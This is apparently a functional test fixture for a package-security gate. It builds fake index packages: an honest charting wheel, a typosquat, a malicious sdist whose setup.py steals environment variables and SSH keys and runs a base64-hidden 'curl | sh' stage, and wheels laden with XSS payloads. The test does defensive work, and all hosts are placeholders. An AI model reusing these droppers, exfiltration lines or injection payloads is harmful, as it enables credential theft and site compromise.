"""An index with something on every page: honest releases, hostile ones, and one of nothing but XSS.

Everything is examined by a real gate; what is hostile is so in shape only, with hosts under
``.invalid``.
"""

import base64
import datetime as dt
from collections.abc import Iterable, Iterator, Mapping

import httpx
import msgspec

from airlock.assembly.storing import open_data
from airlock.behaviour import Phase, Trace
from airlock.behaviour.events import (
    Asked,
    Began,
    Ended,
    Looked,
    Ran,
    Reached,
    Said,
    Spawned,
    Touch,
    Touched,
)
from airlock.behaviour.log import write
from airlock.model import ArtifactName, Sha256
from airlock.store.traces import KeptTrace
from tests.checks.watched import HEADER
from tests.functional.conftest import Gate
from tests.simulators import example_backend
from tests.simulators.packages import make_sdist
from tests.simulators.upstream import Upstream

HONEST = "harbour-charts"
LOOKALIKE = "reqeusts"
HOSTILE = "tidewater-utils"
SPRINKLED = "xss-everywhere"
"""Writes markup wherever a package may write something."""

BEACON = "pwned"
"""What a script would set on ``window`` if one of the attempts worked."""
ATTEMPTS = (
    f"<script>window.{BEACON}=1</script>",
    f"<img src=x onerror=window.{BEACON}=1>",
    f'"><svg/onload=window.{BEACON}=1>',
    f"'><a href=javascript:window.{BEACON}=1 id=clickme>go</a>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<style>body{display:none}</style><base href=//evil.invalid/>",
    f"</title></pre></textarea><iframe srcdoc='<script>parent.{BEACON}=1</script>'>",
)
_ALL = " ".join(ATTEMPTS)

_MARKDOWN = """# Harbour charts

Tide tables and charts of small harbours, **offline**.

[Documentation](https://harbour.example/docs) · [Changes](https://harbour.example/changes)

```python
from harbour_charts import Harbour

harbour = Harbour.named("Whitby")
print(harbour.tides(days=3))
```

## Features

| Source  | Years     | Accuracy |
|---------|-----------|----------|
| Gauges  | 1990-2025 | 2 cm     |
| Models  | 2026      | 8 cm     |

- no network at run time
- works on Python 3.11 and later
- [x] tables, [ ] currents
"""

_REST = """
Lanterns
========

Colours for the lights of *ships*.

.. code-block:: python

   from lanterns import colour

======  ======
Side    Colour
======  ======
port    red
======  ======
"""


def _metadata(name: str, version: str, body: str = "", **fields: str | Iterable[str]) -> str:
    lines = ["Metadata-Version: 2.4", f"Name: {name}", f"Version: {version}"]
    for field, values in fields.items():
        key = field.replace("_", "-").title()
        lines += [f"{key}: {one}" for one in ([values] if isinstance(values, str) else values)]
    return "\n".join([*lines, "", body])


def _wheel(metadata: str, files: Mapping[str, str]) -> tuple[str, bytes]:
    content = {path: text.encode() for path, text in files.items()}
    return example_backend.pack(metadata, content, "py3-none-any")


def _harbour(version: str, more: str = "") -> tuple[str, bytes]:
    metadata = _metadata(
        HONEST, version, _MARKDOWN,
        summary="Tide tables and charts of small harbours, offline",
        author_email="Ada Example <ada@harbour.example>",
        license_expression="MIT",
        description_content_type="text/markdown",
        requires_python=">=3.11",
        requires_dist=("lanterns>=2", "platformdirs; extra == 'cache'"),
        project_url=(
            "Homepage, https://harbour.example",
            "Source, https://code.example/harbour",
            "Evil, javascript:window.pwned=1",
        ),
        classifier=("Programming Language :: Python :: 3.12", "Topic :: Scientific/Engineering"),
    )  # fmt: skip
    code = f'"""Charts."""\n\n__version__ = "{version}"\n\n\nclass Harbour:\n    """One."""\n{more}'
    return _wheel(metadata, {"harbour_charts/__init__.py": code})


_DROPPER = """\
import base64
import os
import urllib.request

from setuptools import setup

_STAGE = "{stage}"


def collect():
    data = dict(os.environ)
    keys = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    body = repr((data, keys)).encode()
    urllib.request.urlopen("https://collector.invalid/drop", data=body)


collect()
exec(base64.b64decode(_STAGE))
setup(name="tidewater-utils", version="0.9.1")
"""
_STAGE = b"""import os, subprocess
text = 'b3Muc3lzdGVtKCJjdXJsIGh0dHBzOi8vc3RhZ2UuaW52YWxpZC9ydW4gfCBzaCIp'
second = __import__('base64').b64decode(text)
exec(second)
"""


def hostile_sdist() -> tuple[str, bytes]:
    stage = base64.b64encode(_STAGE).decode()
    return make_sdist(
        HOSTILE,
        "0.9.1",
        {"tidewater_utils/__init__.py": "VALUE = 1\n"},
        setup_py=_DROPPER.format(stage=stage),
    )


def sprinkled(body: str, kind: str) -> tuple[str, bytes]:
    """Return a wheel with markup in its metadata, its paths and its code."""
    version = {"text/markdown": "1.0", "text/x-rst": "1.1", "text/plain": "1.2"}[kind]
    metadata = _metadata(
        SPRINKLED, version, body,
        summary=_ALL,
        author=_ALL,
        author_email=f'"{ATTEMPTS[0]}" <a@b.invalid>',
        license=_ALL,
        keywords=_ALL,
        description_content_type=kind,
        project_url=(
            f"{ATTEMPTS[0]}, https://x.invalid/{ATTEMPTS[1]}",
            f"J, javascript:window.{BEACON}=1",
        ),
        classifier=_ALL,
        requires_dist="lanterns",
    )  # fmt: skip
    payload = base64.b64encode(f"import os; os.system('{_ALL}')".encode()).decode()
    code = (
        f"# {_ALL}\nimport base64, os, urllib.request\n"
        f"A = '''{_ALL}'''\n"
        f"os.system('curl https://a.invalid/<script>window.{BEACON}=1</script> | sh')\n"
        "urllib.request.urlopen('https://b.invalid/\"><img src=x onerror=window.pwned=1>',"
        " data=repr(dict(os.environ)).encode())\n"
        f"exec(base64.b64decode('{payload}'))\n"
    )
    files = {
        "xss_everywhere/__init__.py": code,
        f"xss_everywhere/{ATTEMPTS[1].replace('/', '_')}.py": code,
        f"xss_everywhere/'\"><svg onload=window.{BEACON}=1>.py": code,
    }
    return _wheel(metadata, files)


_HOSTILE_MARKDOWN = f"""
# {ATTEMPTS[0]}

{_ALL}

[link](javascript:window.{BEACON}=1) ![image](https://tracker.invalid/pixel.png)
<https://x.invalid/"onmouseover="window.{BEACON}=1>

<details open ontoggle="window.{BEACON}=1"><summary>x</summary></details>
<form action="https://evil.invalid"><input name=q>
<button formaction="javascript:window.{BEACON}=1">b</button></form>
<p style="position:fixed;inset:0" class="top" id="main"
onclick="window.{BEACON}=1">clobbered</p>

```<img src=x onerror=window.{BEACON}=1>
{_ALL}
```
"""
_HOSTILE_REST = f"""
{ATTEMPTS[0]}
{"=" * 60}

.. raw:: html

   <script>window.{BEACON}=1</script>

.. include:: /etc/passwd

`link <javascript:window.{BEACON}=1>`_

{_ALL.replace("`", "").replace("*", "").replace("_", "")}
"""


def _lanterns(version: str) -> tuple[str, bytes]:
    metadata = _metadata(
        "lanterns", version, _REST, summary="Colours for the lights of ships",
        description_content_type="text/x-rst", author="Grace Example",
    )  # fmt: skip
    return _wheel(metadata, {"lanterns/__init__.py": "RED, GREEN = range(2)\n"})


def _artifacts() -> Iterator[tuple[tuple[str, bytes], int]]:
    """Yield files, and how many days ago each was uploaded."""
    yield _harbour("1.0"), 900
    yield _harbour("1.1", "\n    def tides(self, days):\n        return [days]\n"), 400
    calls = "\n    def tides(self, days):\n        import subprocess\n"
    yield _harbour("1.2", f"{calls}        return subprocess.run(['tides', str(days)])\n"), 30
    yield _lanterns("2.0"), 1200
    yield _lanterns("2.1"), 90
    yield hostile_sdist(), 20
    yield sprinkled(_HOSTILE_MARKDOWN, "text/markdown"), 60
    yield sprinkled(_HOSTILE_REST, "text/x-rst"), 50
    yield sprinkled(_ALL, "text/plain"), 40


def seed(gate: Gate, upstream: Upstream) -> dict[str, str]:
    """Offer everything, ask the gate for all of it; return the digests by file name."""
    now = dt.datetime.now(dt.UTC)
    digests = {}
    for (filename, data), days in _artifacts():
        project = filename.split("-")[0].replace("_", "-")
        digests[filename] = upstream.add(
            filename, data, project=_project(filename), upload_time=now - dt.timedelta(days=days)
        )
        assert project
    _lookalike(upstream, now)
    projects = {_project(filename) for filename in digests}
    with httpx.Client(base_url=gate.url, timeout=120) as client:
        for project in (*sorted(projects), LOOKALIKE):
            client.get(f"/simple/{project}/", headers={"user-agent": "pip/25.3"})
        for filename, digest in digests.items():
            client.get(f"/files/{digest}/{filename}", headers={"user-agent": "pip/25.3"})
    watched = {"tidewater_utils-0.9.1.tar.gz": "run", "xss_everywhere-1.0-py3-none-any.whl": _ALL}
    for filename, word in watched.items():
        _watch(gate, filename, digests[filename], word)
    return digests


def _watch(gate: Gate, filename: str, digest: str, word: str) -> None:
    """Keep the log of a detonation, as a gate that runs what it holds does."""
    header = msgspec.structs.replace(HEADER, filename=filename, sha256=digest)
    install, run = Phase.INSTALL, Phase.IMPORT
    told = (
        Ran(at=0.1, phase=install, pid=10, path="/bin/pip", argv=("pip", "install", ".")),
        Spawned(at=0.2, phase=install, pid=10, child=11),
        Ran(at=0.3, phase=install, pid=11, path="/bin/python", argv=("python", "setup.py", word)),
        Spawned(at=0.5, phase=install, pid=11, child=12),
        Ran(at=0.6, phase=install, pid=12, path="/bin/sh", argv=("sh", "-c", f"curl {word}")),
        Looked(at=0.7, phase=install, name="stage.invalid", answer="10.0.0.1"),
        Reached(at=0.8, phase=install, address="10.0.0.1", port=443, name="stage.invalid"),
        Asked(
            at=0.9, phase=install, method="POST", url=f"https://stage.invalid/{word}",
            headers=(("User-Agent", word),), body=b"PRIVATEPRIVATE4711 " + word.encode(),
        ),
        Touched(at=1.1, phase=install, path=f"/home/clara42/.bashrc{word}", how=Touch.WRITE),
        Ended(at=1.4, phase=install, seconds=1.4),
        Began(at=1.5, phase=run, what=f"tidewater_utils{word}"),
        Said(at=1.6, phase=run, text=f"hello {word}"),
        Ended(at=2.0, phase=run, seconds=0.5),
    )  # fmt: skip
    log = b"".join(write(Trace(header=header, events=told)))
    path = gate.folder / "a.log"
    path.write_bytes(log)
    records, blobs, _ = open_data(gate.data)
    with records, blobs:
        blobs.put(Sha256.of(log), path)
        name = ArtifactName.parse(filename)
        records.traces.put(
            KeptTrace(
                sha256=Sha256(digest),
                name=name,
                project=name.project,
                log=Sha256.of(log),
                seen_at=header.began,
            )
        )


def _project(filename: str) -> str:
    return filename.removesuffix(".tar.gz").rsplit("-", 1)[0].split("-")[0].replace("_", "-")


def _lookalike(upstream: Upstream, now: dt.datetime) -> None:
    made = _wheel(_metadata(LOOKALIKE, "2.0", summary="HTTP"), {"reqeusts.py": "x = 1\n"})
    upstream.add(*made, project=LOOKALIKE, upload_time=now - dt.timedelta(days=3))
